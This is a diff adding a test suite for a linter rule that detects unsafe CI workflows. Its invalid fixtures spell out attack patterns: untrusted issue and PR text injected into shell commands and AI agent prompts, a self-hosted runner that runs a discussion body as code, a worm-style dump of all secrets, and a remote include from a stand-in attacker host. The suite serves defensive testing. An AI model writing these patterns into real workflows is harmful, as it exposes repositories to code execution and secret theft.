@@ -1,0 +1,65 @@
+import rule from '../../src/rules/no-unsafe-workflow.ts';
+import { ruleTester } from '../tester.ts';
+
+const filename = '.github/workflows/ci.yml';
+const HASH = '08c6903cd8c0fde910a37f88322edcfb5dd907a8';
+const job = (on: string, ...steps: readonly string[]): string => `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - ${step.replaceAll('\n', '\n        ')}\n`).join('')}`;
+const claude = (on: string, ...inputs: readonly string[]): string => job(on, `uses: anthropics/claude-code-action@${HASH}\nwith:\n${inputs.map((input) => `  ${input}`).join('\n')}`);
+
+await ruleTester(rule, {
+  valid: [
+    { filename, code: `name: ci\non:\n  pull_request:\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${HASH}\n      - run: npm ci\n      - run: npm test\n        env:\n          API_KEY: \${{ secrets.API_KEY }}\n`, options: { strict: true } },
+    // Through env and quoted, numbers, hashes, comparisons.
+    { filename, code: job('issues', 'run: echo "$TITLE"\nenv:\n  TITLE: ${{ github.event.issue.title }}') },
+    { filename, code: job('issues', 'run: gh issue view ${{ github.event.issue.number }} --json title'), options: { strict: true } },
+    { filename, code: job('pull_request', 'run: echo ${{ github.event.pull_request.head.sha }} ${{ github.sha }}'), options: { strict: true } },
+    { filename, code: job('issues', "if: contains(github.event.issue.title, 'bug')\nrun: echo bug"), options: { strict: true } },
+    { filename, code: job('issues', "run: echo ${{ contains(github.event.issue.title, 'bug') }} ${{ github.event.comment.body == '/go' && 'a' || 'b' }}"), options: { strict: true } },
+    { filename, code: job('issues', "run: echo '${{ github.event_name }}' ${{ github.repository }} ${{ matrix.os }} ${{ steps.x.outputs.result }}"), options: { strict: true } },
+    { filename, code: job('issues', 'run: echo ${{ env.NAME }}\nenv:\n  NAME: ${{ github.repository }}'), options: { strict: true } },
+    { filename, code: job('pull_request', 'uses: docker/build-push-action@v6\nwith:\n  tags: app:${{ github.head_ref }}') },
+    { filename, code: claude('issues', 'prompt: Look at issue ${{ github.event.issue.number }} of ${{ github.repository }}', 'claude_args: --max-turns 5') },
+    { filename, code: job('workflow_dispatch', 'run: echo ${{ inputs.name }}') },
+    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}`, 'run: npm ci') },
+    { filename, code: job('pull_request', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.pull_request.head.sha }}`) },
+    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.head_ref }}\n  path: untrusted`) },
+    { filename, code: job('push', 'uses: someone/thing@v1', 'uses: ./local', 'uses: docker://alpine:3') },
+    { filename, code: job('push', 'uses: ./local', `uses: someone/thing@${HASH}`, `uses: docker://alpine@sha256:${'0'.repeat(64)}`, 'uses: my-org/thing@main'), options: { strict: true, allowedActions: ['my-org/**'] } },
+    { filename, code: 'on: pull_request\njobs:\n  a:\n    runs-on: self-hosted\n    steps: []\n' },
+    { filename, code: job('push', 'run: echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"\nenv:\n  BRANCH: ${{ github.ref_name }}') },
+    { filename: '.github/workflows/discussion.yml', code: job('discussion', 'run: echo hi') },
+    // Not of the expected shape.
+    { filename, code: 'on: [1, null]\njobs: [x]\npermissions: 5\n' },
+    { filename, code: 'jobs:\n  a:\n    steps:\n      - run: ["${{ github.head_ref }}"]\n        with: x\n        env: 1\n' },
+    { filename: 'action.yml', code: `name: x\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@${HASH}\n    - run: npm ci\n      shell: bash\n`, options: { strict: true } },
+    { filename: 'config/other.yml', code: job('issues', 'run: echo ${{ github.event.issue.title }}') },
+    { filename: '.gitlab-ci.yml', code: 'include:\n  - local: /x.yml\ntest:\n  script:\n    - echo "$CI_MERGE_REQUEST_TITLE"\n', options: { strict: true } },
+  ],
+  invalid: [
+    {
+      filename,
+      code: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
+      errors: [{ messageId: 'injection', line: 6, column: 20, endLine: 6, endColumn: 51, data: { context: 'github.event.issue.title', where: 'shell text' } }],
+    },
+    { filename, code: job('issues', "run: |\n  echo one\n  echo ${{ github['event']['issue'].body }}"), errors: [{ messageId: 'injection', line: 8, column: 16 }] },
+    { filename, code: job('pull_request', "run: echo ${{ format('x {0}', github.head_ref) }} ${{ toJSON(github.event) }}"), errors: [{ messageId: 'injection' }, { messageId: 'injection' }] },
+    { filename, code: job('pull_request', 'run: echo ${{ env.TITLE }}').replace('jobs:', 'env:\n  TITLE: ${{ github.event.pull_request.title }}\njobs:'), errors: [{ messageId: 'injection', data: { context: 'env.title', where: 'shell text' } }] },
+    { filename, code: job('issue_comment', 'uses: actions/github-script@v7\nwith:\n  script: console.log(`${{ github.event.comment.body }}`)'), errors: [{ messageId: 'injection', data: { context: 'github.event.comment.body', where: 'code' } }] },
+    { filename: 'action.yml', code: 'runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.head_ref }}\n      shell: bash\n', errors: [{ messageId: 'injection' }] },
+    { filename: 'action.yml', code: 'runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.name }}\n      shell: bash\n', options: { strict: true }, errors: [{ messageId: 'injection' }] },
+    { filename, code: claude('issues', 'prompt: |', '  Fix this:', '  ${{ github.event.issue.title }}', '  ${{ github.event.issue.body }}'), errors: [{ messageId: 'promptInjection', line: 10 }, { messageId: 'promptInjection', line: 11 }] },
+    { filename, code: job('issues', 'id: ai\nuses: actions/ai-inference@v1\nwith:\n  prompt: hi', 'run: ${{ steps.ai.outputs.response }}'), errors: [{ messageId: 'modelOutput' }] },
+    { filename, code: job('issues', 'run: echo "TITLE=$TITLE" >> $GITHUB_ENV\nenv:\n  TITLE: ${{ github.event.issue.title }}'), errors: [{ messageId: 'environmentFile', line: 6, column: 26, endColumn: 32 }] },
+    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.pull_request.head.sha }}`, 'run: npm ci'), errors: [{ messageId: 'untrustedCheckout', line: 8, column: 11, endColumn: 14 }] },
+    { filename, code: job('[issue_comment]', 'run: gh pr checkout ${{ github.event.issue.number }}'), errors: [{ messageId: 'untrustedCheckout' }] },
+    { filename, code: job('workflow_run', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.workflow_run.head_branch }}`), errors: [{ messageId: 'untrustedCheckout' }] },
+    { filename, code: claude('issues', 'allowed_non_write_users: "*"'), errors: [{ messageId: 'openAgent', data: { key: 'allowed_non_write_users', value: '*', who: 'anybody' } }] },
+    { filename, code: claude('issues').replace('jobs:', 'permissions:\n  contents: write\n  id-token: write\njobs:'), errors: [{ messageId: 'agentJob' }] },
+    { filename, code: 'on: push\npermissions: write-all\njobs: {}\n', errors: [{ messageId: 'allRights', line: 2, column: 1 }] },
+    { filename: '.github/workflows/discussion.yaml', code: 'on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: ${{ github.event.discussion.body }}\n', errors: [{ messageId: 'backdoor', line: 4, column: 5 }, { messageId: 'injection' }] },
+    { filename: '.github/workflows/shai-hulud-workflow.yml', code: job('push', 'run: echo "$X"\nenv:\n  X: ${{ toJSON(secrets) }}'), errors: [{ messageId: 'knownWorm' }] },
+    { filename, code: job('push', 'uses: someone/thing@v1'), options: { strict: true }, errors: [{ messageId: 'unpinned', data: { value: 'someone/thing@v1' } }] },
+    { filename, code: 'on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n', options: { strict: true }, errors: [{ messageId: 'ownRunner' }] },
+    { filename: '.gitlab-ci.yml', code: 'include:\n  - remote: http://ci.attacker.dev/x.yml\n', errors: [{ messageId: 'remoteInclude', line: 2, column: 5 }] },
+  ],
+});
